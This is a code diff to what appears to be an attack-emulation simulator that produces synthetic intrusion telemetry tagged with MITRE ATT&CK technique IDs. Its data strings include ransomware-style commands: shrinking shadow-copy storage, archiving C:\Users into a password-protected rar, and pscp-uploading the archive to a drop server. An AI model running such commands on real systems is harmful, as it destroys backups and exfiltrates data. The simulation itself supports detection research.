@@ -39,10 +39,11 @@ REMOVED = (
 )
 STARVED = (rf"{S32}\vssadmin.exe resize shadowstorage /for=D: /on=D: /maxsize=401MB", *REMOVED[1:])
 """Shadow copies go when there is no room for them."""
+PACKS = "T1560.001 T1074.001"
 ENCRYPTED = ("app", "file", "sql", "web")
 
 
-@step("look_around", "T1033 T1069.002 T1482 T1087.002 T1049")
+@step("look_around", " ".join(dict.fromkeys(technique for _, technique in DIAGNOSIS)))
 def look_around(p: Player, _: Options) -> None:
     """Who am I, who else is there, what is near."""
     rng = p.acts.rng
@@ -82,7 +83,7 @@ def switch_credential(p: Player, options: Options) -> None:
         p.account = p.estate.administrators[p.acts.rng.randrange(len(p.estate.administrators))].account
     if p.care > NOISY and p.place is not None and p.acts.rng.random() < COMES_AGAIN:
         p.pause()
-        arrive(p, p.place, p.at.host)
+        arrive(p, p.place, p.at.host, "T1078.002 T1021.001")
 
 
 @step("kerberoast", "T1558.003")
@@ -114,22 +115,24 @@ def add_account(p: Player, options: Options) -> None:
     controller = p.estate.hosts[p.at.host.controller]
     new = p.either("support_388945a0", f"n.joiner{p.acts.rng.randrange(900)}")
     group = str(options.get("group", "Domain Admins"))
-    p.acts.new_account_on(p.at.inside, controller, p.who, new, group, p.cause("T1136.002"))
+    p.acts.new_account_on(p.at.inside, controller, p.who, new, group, p.cause("T1136.002 T1098"))
     p.pause()
 
 
-@step("stage_archive", "T1560.001 T1074.001")
+@step("stage_archive", PACKS)
 def stage_archive(p: Player, _: Options) -> None:
     """What was gathered, packed."""
     stage, host = STAGE[p.care], p.at.host
     if p.care > NOISY:
-        pack(p.acts, p.at, lambda command: p.type(command, "T1560.001"), p.cause("T1560.001"))
+        pack(p.acts, p.at, lambda command: p.type(command, PACKS), p.cause(PACKS))
         return
     command = rf"{stage}\rar.exe a -r -m1 -hpQz71kkd -v200m {stage}\s.rar C:\Users"
-    number = p.type(command, "T1560.001")
+    number = p.type(command, PACKS)
     p.acts.wait(30, 90)
+    p.acts.still()
     image = command.partition(".exe")[0] + ".exe"
     p.acts.created(host, p.who, image, number, rf"{stage}\s.part01.rar", p.at.hop)
+    p.acts.done()
 
 
 @step("copy_out", "T1048.002 T1567", "megabytes")
@@ -143,7 +146,8 @@ def copy_out(p: Player, options: Options) -> None:
         p.acts.done()
         p.acts.wait(600, 2400)
         return
-    cause = p.cause("T1048.002")
+    # to a server of the intruder's own, or to anybody's web service
+    cause = p.cause("T1048.002" if p.care == NOISY else "T1567")
     if p.care == NOISY:
         noisy = rf"C:\PerfLogs\pscp.exe -P 443 -batch C:\PerfLogs\s.part01.rar w@{DROP}:/in/"
         p.acts.sent(p.at, DROP, size, noisy, cause)
